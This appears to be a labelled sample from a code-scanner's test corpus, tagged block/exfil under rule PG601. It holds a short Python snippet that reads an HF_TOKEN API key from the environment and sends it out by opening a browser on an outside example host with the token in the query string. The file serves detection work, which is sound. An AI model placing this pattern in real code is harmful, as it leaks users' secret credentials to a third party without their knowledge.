# pyguard-corpus: verdict=block category=exfil rules=PG601
# what: opens a browser on a URL whose query string carries an API key from the environment
import os
import urllib.parse
import webbrowser

token = urllib.parse.quote(os.environ.get("HF_TOKEN", ""))
webbrowser.open(f"https://welcome.example.com/?ref={token}")
